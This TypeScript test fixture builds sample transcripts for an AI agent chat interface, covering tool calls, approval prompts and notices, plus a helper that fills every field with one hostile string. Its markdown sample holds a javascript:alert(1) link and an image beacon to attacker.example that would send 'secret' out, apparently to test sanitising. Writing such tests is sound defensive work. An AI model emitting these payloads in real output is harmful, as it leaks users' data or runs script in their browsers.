// A conversation with every part in every state, and one where every field holds the same hostile text.
import type { Approval, CommandInfo, ModelInfo } from '@tenon/protocol';
import type { ChatImage, TranscriptItem } from './types.ts';

export const NOW = Date.UTC(2026, 10, 15, 13, 44, 0);
const at = (minutes: number) => NOW - minutes * 60_000;
const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

export const commands: readonly CommandInfo[] = [
  { name: 'help', summary: 'Say what can be done here.', usage: '/help', scope: 'operator.read', source: 'core' },
  {
    name: 'model',
    summary: 'Show or choose the model of this session.',
    usage: '/model [id | default]',
    scope: 'operator.write',
    source: 'core',
  },
  { name: 'new', summary: 'Begin a new session.', usage: '/new [title]', scope: 'operator.write', source: 'core' },
  { name: 'stop', summary: 'Stop the running turn.', usage: '/stop', scope: 'operator.write', source: 'core' },
];

export const models: readonly ModelInfo[] = [
  {
    id: 'qwen3-coder-30b',
    provider: 'openai-compatible',
    name: 'qwen3',
    contextWindow: 32_768,
    images: true,
    thinking: true,
    usable: true,
    isDefault: true,
  },
  { id: 'demo', provider: 'demo', name: 'demo', contextWindow: 32_768, images: false, thinking: false, usable: true, isDefault: false },
  {
    id: 'far',
    provider: 'openai',
    name: 'far',
    contextWindow: 32_768,
    images: true,
    thinking: true,
    usable: false,
    reason: 'no key',
    isDefault: false,
  },
];

export function approval(change: Partial<Approval> = {}): Approval {
  return {
    id: 'approval-0000000001',
    sessionKey: 'agent:main:certificates',
    runId: 'run-1',
    callId: 'call-3',
    agentId: 'main',
    toolName: 'exec',
    title: 'Run this command?',
    reason: 'The rule for programs asks each time: there is no sandbox here',
    risk: 'exec',
    argv: ['ssh', '-o', 'BatchMode=yes', 'deploy@edge-2', 'sudo certbot renew --cert-name edge-2.example.net --no-random-sleep-on-renew'],
    cwd: '/srv/edge-2',
    env: { SSH_AUTH_SOCK: '/run/agent.sock' },
    args: {
      argv: ['ssh', '-o', 'BatchMode=yes', 'deploy@edge-2', 'sudo certbot renew --cert-name edge-2.example.net --no-random-sleep-on-renew'],
      cwd: '/srv/edge-2',
    },
    digest: '77ac01be9f3d4c5577ac01be9f3d4c5577ac01be9f3d4c5577ac01be9f3d4c55',
    principal: 'token:laptop',
    allowed: ['allow-once', 'allow-always', 'deny'],
    state: 'pending',
    createdAt: at(1),
    expiresAt: NOW + 102_000,
    ...change,
  };
}

/** The conversation of the reference pictures. */
export const conversation: readonly TranscriptItem[] = [
  { kind: 'day', key: 'day', at: at(3) },
  {
    kind: 'user',
    key: 'u1',
    author: 'Mara',
    at: at(3),
    text: 'The certificate on edge-2 runs out on Thursday. Renew it, and tell me what else expires this month.',
    state: 'sent',
    entryId: 'entry-u1',
  },
  {
    kind: 'assistant',
    key: 'a1',
    agent: 'main',
    at: at(2),
    text: 'I looked at what is installed before touching anything.',
    streaming: false,
    thinking: 'First look, then touch.',
    thinkingMs: 3000,
    entryId: 'entry-a1',
  },
  {
    kind: 'tool',
    key: 't1',
    callId: 'call-1',
    name: 'cert_list',
    offeredBy: 'cert-watch',
    subject: '4 certificates on edge-2',
    args: {},
    state: 'done',
    output: 'four',
    durationMs: 420,
  },
  {
    kind: 'tool',
    key: 't2',
    callId: 'call-2',
    name: 'exec',
    offeredBy: 'host',
    subject: 'certbot renew, edge-2.example.net',
    args: { command: 'certbot renew' },
    state: 'done',
    stateWord: 'Allowed once',
    output: 'ok',
    durationMs: 18_000,
  },
];

export const streamed: readonly TranscriptItem[] = [
  ...conversation,
  {
    kind: 'tool',
    key: 't3',
    callId: 'call-3',
    name: 'exec',
    offeredBy: 'host',
    subject: 'openssl, valid until 13 February',
    args: { command: 'openssl x509 -noout -subject -enddate -in /etc/letsencrypt/live/edge-2/cert.pem', cwd: '/srv/edge-2' },
    state: 'done',
    output: 'subject=CN = edge-2.example.net\nnotAfter=Feb 13 12:41:07 2027 GMT\n',
    durationMs: 1800,
    exitCode: 0,
    provenance: 'edge-2',
    allowedBy: 'asked by main, allowed by the rule openssl reads',
  },
  {
    kind: 'assistant',
    key: 'a2',
    agent: 'main',
    at: at(1),
    streaming: true,
    text: 'edge-2 is renewed: the new certificate is valid until **13 February 2027**, and nginx serves it. Three more end in November:\n\n- `mail.example.net` on 21 November, renews by itself on the 20th\n- `git.example.net` on 24 November, its timer has been off since',
  },
];

export const waiting: readonly TranscriptItem[] = [
  ...conversation.slice(0, 4),
  {
    kind: 'tool',
    key: 't3',
    callId: 'call-3',
    name: 'exec',
    offeredBy: 'host',
    subject: 'ssh deploy@edge-2',
    state: 'waiting',
    startedAt: NOW - 18_000,
  },
  { kind: 'approval', key: 'ap', approval: approval() },
];

const MARKDOWN = `# A heading

Some *emphasis*, some **weight**, ~~gone~~, \`code\` and [a link](https://example.com/page).

| tool | calls |
|---|---:|
| exec | 12 |
| read | 3 |

1. first
2. second
   - nested

- [x] done
- [ ] open

> quoted text

\`\`\`ts
export const answer = 42; // a line that is long enough to scroll sideways on every screen that this page is ever shown on, and then some
\`\`\`

[elsewhere](javascript:alert(1)) ![beacon](https://attacker.example/?d=secret) ![dot](data:image/png;base64,${PIXEL})

<b>not bold</b>`;

export const every: readonly TranscriptItem[] = [
  { kind: 'day', key: 'day', at: at(60 * 24 * 9) },
  {
    kind: 'user',
    key: 'sent',
    author: 'Mara',
    at: at(9),
    text: 'With a picture',
    state: 'sent',
    entryId: 'entry-1',
    images: [{ key: 'i', mimeType: 'image/png', data: PIXEL, name: 'dot.png' }],
  },
  { kind: 'user', key: 'queued', author: 'Mara', at: at(8), text: 'Also check the mail host', state: 'queued' },
  {
    kind: 'user',
    key: 'failed',
    author: 'Mara',
    at: at(8),
    text: 'And the last one',
    state: 'failed',
    error: 'The gateway is not connected.',
  },
  { kind: 'assistant', key: 'md', agent: 'main', at: at(7), text: MARKDOWN, streaming: false, entryId: 'entry-2' },
  { kind: 'tool', key: 'writing', callId: 'c0', name: 'write', offeredBy: 'host', subject: '', state: 'writing' },
  {
    kind: 'tool',
    key: 'running',
    callId: 'c1',
    name: 'exec',
    offeredBy: 'host',
    subject: 'rsync -a photos/ cold:photos/',
    state: 'running',
    startedAt: NOW - 42_000,
    output: '2019/07/IMG_2231.dng  24.1 MB\n2019/07/IMG_2232.dng  23.8 MB\n2019/07/IMG_2233.dng  24.4 MB\n',
    outputLines: 1204,
  },
  {
    kind: 'tool',
    key: 'waiting',
    callId: 'c2',
    name: 'exec',
    offeredBy: 'host',
    subject: 'ssh deploy@edge-2',
    state: 'waiting',
    startedAt: NOW - 18_000,
  },
  { kind: 'tool', key: 'denied', callId: 'c3', name: 'mail_send', offeredBy: 'host', subject: 'You denied it', state: 'denied' },
  {
    kind: 'tool',
    key: 'blocked',
    callId: 'c4',
    name: 'exec',
    offeredBy: 'host',
    subject: 'Blocked by git-guard: main is protected',
    state: 'blocked',
    durationMs: 2,
  },
  {
    kind: 'tool',
    key: 'interrupted',
    callId: 'c5',
    name: 'exec',
    offeredBy: 'host',
    subject: 'The gateway stopped while it ran; not tried again',
    state: 'interrupted',
  },
  {
    kind: 'tool',
    key: 'broken',
    callId: 'c6',
    name: 'calendar_list',
    offeredBy: 'home-calendar',
    subject: 'The extension is quarantined since 12:58',
    state: 'failed',
    output: Array.from({ length: 60 }, (_, line) => `line ${line}`).join('\n'),
    exitCode: 1,
    args: { query: 'today\nand tomorrow', deep: { list: [1, 2] } },
  },
  {
    kind: 'tool',
    key: 'malformed',
    callId: 'c7',
    name: 'read',
    offeredBy: 'host',
    subject: 'not JSON',
    state: 'failed',
    malformed: '{"path": ',
    output: 'The arguments are no JSON object',
  },
  {
    kind: 'approval',
    key: 'allowed',
    approval: approval({
      id: 'approval-0000000002',
      state: 'allowed',
      decision: 'allow-once',
      decidedBy: 'Mara',
      decidedAt: at(2),
      title: 'certbot renew on edge-2',
    }),
  },
  {
    kind: 'approval',
    key: 'always',
    approval: approval({
      id: 'approval-0000000003',
      state: 'allowed',
      decision: 'allow-always',
      decidedBy: 'Mara',
      decidedAt: at(2),
      title: 'Read certificates with openssl',
    }),
  },
  {
    kind: 'approval',
    key: 'no',
    approval: approval({
      id: 'approval-0000000004',
      state: 'denied',
      decision: 'deny',
      decidedBy: 'Mara on phone',
      decidedAt: at(160),
      title: 'push to main',
    }),
  },
  {
    kind: 'approval',
    key: 'late',
    approval: approval({ id: 'approval-0000000005', state: 'expired', expiresAt: at(1440), title: 'delete 3 branches' }),
  },
  {
    kind: 'approval',
    key: 'void',
    approval: approval({ id: 'approval-0000000006', state: 'voided', decidedAt: at(5), title: 'run the tests' }),
  },
  {
    kind: 'approval',
    key: 'args',
    approval: without(
      approval({
        id: 'approval-0000000007',
        title: 'Write notes/today.md?',
        toolName: 'write',
        risk: 'write',
        args: { path: 'notes/today.md', content: 'First line\nSecond line' },
      }),
    ),
    error: 'The gateway did not answer. Try again.',
  },
  { kind: 'notice', key: 'n1', at: at(4), notice: { type: 'command', command: '/status', reply: 'The gateway is **well**. 3 sessions.' } },
  { kind: 'notice', key: 'n2', at: at(4), notice: { type: 'compaction', summary: 'They spoke about certificates.', tokensBefore: 28_000 } },
  { kind: 'notice', key: 'n3', at: at(4), notice: { type: 'branch', summary: 'Another way was tried.' } },
  { kind: 'notice', key: 'n4', at: at(4), notice: { type: 'model', model: 'demo' } },
  { kind: 'notice', key: 'n5', at: at(4), notice: { type: 'thinking', level: 'high' } },
  { kind: 'notice', key: 'n6', at: at(4), notice: { type: 'label', label: 'good' } },
  { kind: 'notice', key: 'n7', at: at(4), notice: { type: 'title', title: 'Certificates' } },
  { kind: 'notice', key: 'n8', at: at(4), notice: { type: 'edit', left: 'out' } },
  { kind: 'notice', key: 'n9', at: at(4), notice: { type: 'phase', text: 'The model is asked again', busy: true } },
  { kind: 'notice', key: 'e1', at: at(3), notice: { type: 'end', end: { kind: 'aborted', reason: 'Stopped by Mara' } } },
  {
    kind: 'notice',
    key: 'e2',
    at: at(3),
    notice: {
      type: 'end',
      end: { kind: 'failed', code: 'MODEL_UNREACHABLE', reason: 'qwen3-coder-30b does not answer at 127.0.0.1:11434.' },
      advice: 'Start it, or choose another model.',
      retryable: true,
    },
  },
  {
    kind: 'notice',
    key: 'e3',
    at: at(3),
    notice: { type: 'end', end: { kind: 'step_limit' }, advice: 'Write “go on” to let it continue.' },
  },
  { kind: 'custom', key: 'cu', from: 'memory-notes', at: at(2), text: 'A **note** for the next turn.', entryId: 'entry-3' },
  { kind: 'assistant', key: 'think', agent: 'main', at: at(1), text: '', streaming: true, thinking: 'Let me see.' },
];

function without(approval: Approval): Approval {
  const { argv: _argv, cwd: _cwd, env: _env, ...rest } = approval;
  return rest;
}

/** One text in every field that holds somebody's text. */
export function hostile(text: string, key: string): readonly TranscriptItem[] {
  const images: readonly ChatImage[] = [
    { key: 'a', mimeType: text, data: text, name: text },
    { key: 'b', mimeType: 'image/png', data: text, name: text },
    { key: 'c', mimeType: 'image/png', data: PIXEL, name: text },
  ];
  const asked = {
    title: text,
    reason: text,
    toolName: text,
    argv: [text, text],
    cwd: text,
    env: { [text]: text },
    args: { [text]: text, deep: { [text]: [text] } },
    digest: text,
    principal: text,
    agentId: text,
  };
  return [
    { kind: 'user', key: `${key}u`, author: text, at: NOW, text, state: 'failed', error: text, images, entryId: 'entry-1' },
    { kind: 'assistant', key: `${key}a`, agent: text, at: NOW, text, streaming: false, thinking: text, model: text, error: text },
    {
      kind: 'assistant',
      key: `${key}b`,
      agent: text,
      at: NOW,
      text: `- ${text}\n\n> ${text}\n\n| ${text} |\n|---|\n| ${text} |\n\n[${text}](${text}) ![${text}](${text}) <${text}>\n\n\`\`\`${text}\n${text}\n\`\`\`\n\n    ${text}\n\n[x]: ${text}\n\n[x] [^1]\n\n[^1]: ${text}`,
      streaming: true,
    },
    {
      kind: 'tool',
      key: `${key}t`,
      callId: text,
      name: text,
      offeredBy: text,
      subject: text,
      args: { [text]: text, deep: [text] },
      malformed: text,
      state: 'failed',
      stateWord: text,
      output: text,
      images,
      provenance: text,
      allowedBy: text,
      durationMs: 5,
    },
    { kind: 'approval', key: `${key}p`, approval: approval({ ...asked, id: `${key}-pending-approval` }), error: text },
    {
      kind: 'approval',
      key: `${key}d`,
      approval: approval({ ...asked, id: `${key}-decided-approval`, state: 'denied', decidedBy: text, decidedAt: NOW }),
    },
    { kind: 'notice', key: `${key}1`, at: NOW, notice: { type: 'command', command: text, reply: text } },
    { kind: 'notice', key: `${key}2`, at: NOW, notice: { type: 'compaction', summary: text, tokensBefore: 1 } },
    { kind: 'notice', key: `${key}3`, at: NOW, notice: { type: 'branch', summary: text } },
    { kind: 'notice', key: `${key}4`, at: NOW, notice: { type: 'model', model: text } },
    { kind: 'notice', key: `${key}5`, at: NOW, notice: { type: 'label', label: text } },
    { kind: 'notice', key: `${key}6`, at: NOW, notice: { type: 'title', title: text } },
    { kind: 'notice', key: `${key}7`, at: NOW, notice: { type: 'phase', text, busy: true } },
    {
      kind: 'notice',
      key: `${key}8`,
      at: NOW,
      notice: { type: 'end', end: { kind: 'failed', code: text, reason: text }, advice: text, retryable: true },
    },
    { kind: 'custom', key: `${key}c`, from: text, at: NOW, text, images },
  ];
}
